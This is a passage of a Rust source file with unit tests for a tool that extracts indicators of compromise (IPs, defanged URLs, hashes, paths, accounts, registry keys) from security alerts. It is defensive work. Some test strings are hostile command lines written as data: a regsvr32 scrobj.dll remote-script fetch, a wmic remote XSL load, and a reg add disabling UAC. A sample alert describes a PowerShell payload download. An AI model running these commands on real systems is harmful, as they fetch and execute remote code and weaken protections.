        end -= 1;
    }
    end
}

/// The host of a normalised URL, if it is a name (not a bracketed address).
fn url_host(url: &str) -> Option<&str> {
    let (_, rest) = url.split_once("://")?;
    let authority = &rest[..rest.find(['/', '?', '#']).unwrap_or(rest.len())];
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    if host_port.starts_with('[') {
        return None;
    }
    let host = host_port.split_once(':').map_or(host_port, |(h, _)| h);
    Some(host.trim_end_matches('.'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use ObservableKind::*;

    fn found(text: &str) -> Vec<(ObservableKind, String)> {
        extract(text).into_iter().map(|e| (e.kind, e.value)).collect()
    }

    fn none(text: &str) {
        let f = found(text);
        assert!(f.is_empty(), "{text:?}: {f:?}");
    }

    fn one(kind: ObservableKind, value: &str) -> Vec<(ObservableKind, String)> {
        vec![(kind, value.to_owned())]
    }

    #[test]
    fn ipv4_addresses() {
        assert_eq!(found("connection from 10.0.0.5 refused"), one(Ip, "10.0.0.5"));
        assert_eq!(found("dst=198.51.100.7:443,"), one(Ip, "198.51.100.7"));
        assert_eq!(found("(8.8.8.8)."), one(Ip, "8.8.8.8"));
        assert_eq!(found("[192.168.1.1]"), one(Ip, "192.168.1.1"));
        assert_eq!(found("range 10.0.0.1-10.0.0.9"), [(Ip, "10.0.0.1".into()), (Ip, "10.0.0.9".into())]);
        assert_eq!(found("leading zeros 010.001.002.003"), one(Ip, "10.1.2.3"));
        assert_eq!(found("net 10.0.0.0/8"), one(Ip, "10.0.0.0"));
    }

    #[test]
    fn ipv6_addresses() {
        assert_eq!(found("from 2001:db8::42 and"), one(Ip, "2001:db8::42"));
        // Read, but not kept: a loopback or link-local address names no host.
        assert_eq!(found("loopback ::1."), []);
        assert_eq!(found("fe80::1%eth0"), []);
        assert_eq!(found("db ::ffff:10.0.0.1."), one(Ip, "::ffff:10.0.0.1"));
        assert_eq!(found("[2001:DB8:0:0:0:0:0:1]:443"), one(Ip, "2001:db8::1"));
        assert_eq!(found("mapped ::ffff:192.0.2.1"), one(Ip, "::ffff:192.0.2.1"));
        assert_eq!(found("ip:2001:db8::5"), one(Ip, "2001:db8::5"));
    }

    #[test]
    fn not_addresses() {
        for text in [
            "version 1.2.3.4.5",
            "999.1.1.1",
            "1.2.3.256",
            "1.2.3",
            "1234.1.1.1",
            "v1.2.3.4",
            "at 12:30:45 today",
            "mac 00:1a:2b:3c:4d:5e",
            "std::vector and ::, a::b, cafe::beef",
            "Chrome/120.0.6099.109",
        ] {
            none(text);
        }
    }

    #[test]
    fn urls() {
        assert_eq!(found("see https://Evil.Example.com/a?b=C#d, then"), one(Url, "https://evil.example.com/a?b=C#d"));
        assert_eq!(found("<http://x.example/p>"), one(Url, "http://x.example/p"));
        assert_eq!(found("\"ftp://files.example.org/pub/x.zip\""), one(Url, "ftp://files.example.org/pub/x.zip"));
        assert_eq!(found("(see http://x.example/a)."), one(Url, "http://x.example/a"));
        assert_eq!(found("http://en.example.org/wiki/A_(b)"), one(Url, "http://en.example.org/wiki/A_(b)"));
        assert_eq!(found("http://10.1.2.3:8080/x"), one(Url, "http://10.1.2.3:8080/x"));
        assert_eq!(found("url=http://[2001:db8::1]/x"), one(Url, "http://[2001:db8::1]/x"));
        none("a http:// b");
    }

    #[test]
    fn defanged_urls() {
        assert_eq!(found("hxxps://evil[.]example[.]com/login"), one(Url, "https://evil.example.com/login"));
        assert_eq!(found("hXXp[://]evil(dot)example/x"), one(Url, "http://evil.example/x"));
        assert_eq!(found("fxp://203.0.113[.]9/drop"), one(Url, "ftp://203.0.113.9/drop"));
        assert_eq!(found("hxxp://evil[.]com]"), one(Url, "http://evil.com"));
        assert_eq!(found("hxxp://evil[.]com"), one(Url, "http://evil.com"));
    }

    #[test]
    fn defanged_addresses_and_domains() {
        assert_eq!(found("beacon to 203.0.113[.]7"), one(Ip, "203.0.113.7"));
        assert_eq!(found("203[.]0[.]113(.)8"), one(Ip, "203.0.113.8"));
        assert_eq!(found("evil[.]example[.]com"), one(Domain, "evil.example.com"));
        assert_eq!(found("evil[dot]example(dot)org{.}uk"), one(Domain, "evil.example.org.uk"));
    }

    #[test]
    fn emails() {
        assert_eq!(found("from John.Doe+x@Example.COM."), one(Email, "John.Doe+x@example.com"));
        assert_eq!(found("bob[at]corp(dot)example"), one(Email, "bob@corp.example"));
        assert_eq!(
            found("eve[@]evil[.]io and mal(at)bad.ru"),
            [(Email, "eve@evil.io".into()), (Email, "mal@bad.ru".into())]
        );
        assert_eq!(found("mailto:a_b@x.example"), one(Email, "a_b@x.example"));
        none("root@localhost");
        assert_eq!(found("user@10.0.0.1"), one(Ip, "10.0.0.1"));
    }

    #[test]
    fn domains() {
        assert_eq!(found("lookups of login-micros0ft.com."), one(Domain, "login-micros0ft.com"));
        assert_eq!(found("WWW.Evil.CO.UK/path"), one(Domain, "www.evil.co.uk"));
        assert_eq!(found("4.3.2.1.in-addr.arpa"), one(Domain, "4.3.2.1.in-addr.arpa"));
        assert_eq!(found("dc01.corp.local"), one(Domain, "dc01.corp.local"));
        assert_eq!(found("//cdn.evil.xyz/x"), one(Domain, "cdn.evil.xyz"));
        none("a.b e.g. i.e. U.S. Mr.Smith 3.14 done.Next");
    }

    #[test]
    fn file_names_are_not_domains() {
        for text in ["invoice.pdf", "evil.exe", "WINWORD.EXE", "jquery.min.js", "run.sh", "invoice.pdf.exe", "a.7z"] {
            none(text);
        }
    }

    #[test]
    fn url_and_email_hosts_are_not_repeated_as_domains() {
        assert_eq!(found("evil.example hxxp://evil[.]example/x"), one(Url, "http://evil.example/x"));
        assert_eq!(
            found("bob@corp.example wrote from corp.example, not other.example"),
            [(Email, "bob@corp.example".into()), (Domain, "other.example".into())]
        );
    }

    #[test]
    fn hashes() {
        let md5 = "D41D8CD98F00B204E9800998ECF8427E";
        let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
        let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        assert_eq!(found(&format!("md5={md5}.")), one(Md5, &md5.to_ascii_lowercase()));
        assert_eq!(found(&format!("sha1: {sha1}")), one(Sha1, sha1));
        assert_eq!(found(&format!("({sha256})")), one(Sha256, sha256));
        assert_eq!(found(&format!("sha256-{sha256}")), one(Sha256, sha256));
        // Too short, too long, or part of a longer word.
        none(&md5[..31]);
        none(&format!("{md5}0"));
        none(&format!("x{md5}"));
        none(&format!("{md5}g"));
        none(&"g".repeat(32));
    }

    #[test]
    fn windows_paths() {
        assert_eq!(found("ran C:\\Users\\bob\\AppData\\x.exe, then"), one(FilePath, "C:\\Users\\bob\\AppData\\x.exe"));
        assert_eq!(found("\"c:/temp/a b\""), one(FilePath, "c:/temp/a"));
        assert_eq!(found(r#"{"path":"C:\\Windows\\evil.dll"}"#), one(FilePath, "C:\\Windows\\evil.dll"));
        assert_eq!(found("copied to \\\\fs01\\share$\\x.ps1."), one(FilePath, "\\\\fs01\\share$\\x.ps1"));
        none("C:\\ drive");
    }

    #[test]
    fn unix_paths() {
        assert_eq!(found("read /etc/passwd;"), one(FilePath, "/etc/passwd"));
        assert_eq!(found("wrote '/tmp/.x/run.sh'"), one(FilePath, "/tmp/.x/run.sh"));
        assert_eq!(found("path=/var/log/"), one(FilePath, "/var/log/"));
        for text in ["/tmp alone", "and/or", "1/2/2024", "a /s /q", "//x/y"] {
            none(text);
        }
    }

    #[test]
    fn accounts() {
        assert_eq!(found("logon by CORP\\alice."), one(UserAccount, "CORP\\alice"));
        assert_eq!(
            found("WS-042\\admin$ and MY-DOM\\svc_backup"),
            [(UserAccount, "WS-042\\admin$".into()), (UserAccount, "MY-DOM\\svc_backup".into())]
        );
        assert_eq!(found("as NT AUTHORITY\\SYSTEM"), one(UserAccount, "NT AUTHORITY\\SYSTEM"));
        assert_eq!(found(r#""CORP\\bob""#), one(UserAccount, "CORP\\bob"));
        for text in ["corp\\alice", "CORP\\a\\b", "X\\y"] {
            none(text);
        }
    }

    #[test]
    fn registry_keys() {
        assert_eq!(found("HKLM\\Software\\Run"), one(RegistryKey, "HKEY_LOCAL_MACHINE\\Software\\Run"));
        assert_eq!(found("HKCU\\Run"), one(RegistryKey, "HKEY_CURRENT_USER\\Run"));
        assert_eq!(
            found("reg  add hklm\\software\\microsoft\\windows\\currentversion\\policies\\system /v EnableLUA /f"),
            one(RegistryKey, "HKEY_LOCAL_MACHINE\\software\\microsoft\\windows\\currentversion\\policies\\system")
        );
        assert_eq!(
            found("Set-ItemProperty HKCU:\\Environment -Name x"),
            one(RegistryKey, "HKEY_CURRENT_USER\\Environment")
        );
        assert_eq!(
            found(r#"{"key":"HKEY_USERS\\S-1-5-18\\Software"}"#),
            one(RegistryKey, "HKEY_USERS\\S-1-5-18\\Software")
        );
        for text in ["HKLM alone", "HKLM\\", "xhklm\\a", "a.HKLM\\b"] {
            none(text);
        }
    }

    #[test]
    fn versions_are_not_addresses() {
        for text in [
            r#"{"version":"7.5.4.0"}"#,
            "FileVersion: 7.0.1.1",
            "version=1.0.0.0",
            r#""ProductVersion": "10.0.19041.1""#,
            "build: 1.3.233.3",
        ] {
            none(text);
        }
        // An address after another key is still one.
        assert_eq!(found("src: 8.8.8.8"), one(Ip, "8.8.8.8"));
    }

    #[test]
    fn switches_are_not_paths() {
        assert_eq!(
            found("regsvr32.exe /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll"),
            one(Url, "http://pastebin.com/raw/H4A4iDTA")
        );
        assert_eq!(
            found(r#"wmic process list /format:"https://a.uguu.se/x_test.xsl""#),
            one(Url, "https://a.uguu.se/x_test.xsl")
        );
    }

    #[test]
    fn yes_and_no_are_not_accounts() {
        none("Virtual Account:\t\tNo");
        none("Elevated Token: Yes");
        assert_eq!(found("Account Name:\t\tbob"), one(UserAccount, "bob"));
    }

    #[test]
    fn key_values() {
        assert_eq!(found("user=alice"), one(UserAccount, "alice"));
        assert_eq!(found("User: alice."), one(UserAccount, "alice"));
        assert_eq!(found("username = bob, ok"), one(UserAccount, "bob"));
        assert_eq!(found("account: carol"), one(UserAccount, "carol"));
        assert_eq!(found("Account Name:\t\tWS-042$"), one(UserAccount, "WS-042$"));
        assert_eq!(
            found(r#"{"userName": "dave", "host":"WS-9"}"#),
            [(UserAccount, "dave".into()), (Hostname, "ws-9".into())]
        );
        assert_eq!(found("user=CORP\\erin"), one(UserAccount, "CORP\\erin"));
        assert_eq!(found("host=ws-042"), one(Hostname, "ws-042"));
        assert_eq!(found("hostname: WS-042.corp.local"), one(Hostname, "ws-042.corp.local"));
        assert_eq!(found("computer=ws-042:3389"), one(Hostname, "ws-042"));
        assert_eq!(found("host=10.0.0.5"), one(Ip, "10.0.0.5"));
        for text in ["user=-", "user=N/A", "user: null", "username=", "user", "the user said", "User-Agent: x"] {
            none(text);
        }
    }

    #[test]
    fn hostnames_are_not_taken_from_prose() {
        none("WS-042 and DC01 were isolated");
    }

    #[test]
    fn duplicates_are_collapsed_in_order_of_first_appearance() {
        let f = found("10.0.0.1 EVIL.example 10.0.0.1 evil.example. 203.0.113[.]7 evil[.]example 203.0.113.7");
        assert_eq!(f, [(Ip, "10.0.0.1".into()), (Domain, "evil.example".into()), (Ip, "203.0.113.7".into())]);
    }

    #[test]
    fn many_values_are_collapsed_too() {
        let ips: Vec<String> = (0..100).map(|n| format!("10.0.{}.{}", n / 10, n % 10)).collect();
        let text = format!("{} {} {}", ips.join(" "), ips.join(", "), ips.join(" ").replace('.', "[.]"));
        let expected: Vec<(ObservableKind, String)> = ips.into_iter().map(|ip| (Ip, ip)).collect();
        assert_eq!(found(&text), expected);
    }

    #[test]
    fn a_realistic_alert() {
        let text = "[High] Suspicious PowerShell download on WS-042\n\
            Host: ws-042.corp.example  User: CORP\\alice  src_ip=10.20.30.40 dst=203.0.113[.]7:443\n\
            Process C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe fetched \
            hxxps://cdn.evil[.]example/payload.ps1 (payload) and wrote /tmp/.cache/x.sh;\n\
            SHA256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 \
            MD5: d41d8cd98f00b204e9800998ecf8427e.\n\
            Phishing mail from billing[at]invoices-portal(dot)com, reply-to \"Billing\" <pay@invoices-portal.com>\n\
            Beacon to update-check.net and 2001:db8::42 every 60s, user=bob hostname=WS-043 \
            again 10.20.30.40 and cdn.evil.example";
        let expected: Vec<(ObservableKind, String)> = [
            (Hostname, "ws-042.corp.example"),
            (UserAccount, "CORP\\alice"),
            (Ip, "10.20.30.40"),
            (Ip, "203.0.113.7"),
            (FilePath, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            (Url, "https://cdn.evil.example/payload.ps1"),
            (FilePath, "/tmp/.cache/x.sh"),
            (Sha256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
            (Md5, "d41d8cd98f00b204e9800998ecf8427e"),
            (Email, "billing@invoices-portal.com"),
            (Email, "pay@invoices-portal.com"),
            (Domain, "update-check.net"),
            (Ip, "2001:db8::42"),
            (UserAccount, "bob"),
            (Hostname, "ws-043"),
        ]
        .into_iter()
        .map(|(k, v)| (k, v.to_owned()))
        .collect();
        assert_eq!(found(text), expected);
    }

    #[test]
    fn other_scripts_and_odd_bytes() {
        assert_eq!(
            found("café 10.0.0.1 “evil.example” — 10.0.0.2"),
            [(Ip, "10.0.0.1".into()), (Domain, "evil.example".into()), (Ip, "10.0.0.2".into())]
        );
        assert_eq!(found("é10.0.0.1 http://x.example/ä\u{a0}next"), one(Url, "http://x.example/ä"));
        none("");
        none("\u{0}\u{7f}[](){}::\\\\//@@..");
    }

    #[test]
    fn long_runs_are_linear() {
        for unit in ["a.", "a-", "a+", "1:", "a@", "hxxp://a:b/", "a[.]", "/a", "\\\\a\\", "CORP\\", "user=a@"] {
            let text = unit.repeat(50_000);
            let started = std::time::Instant::now();
            let _ = extract(&text);
            assert!(started.elapsed().as_secs() < 5, "{unit}");
        }
    }
}
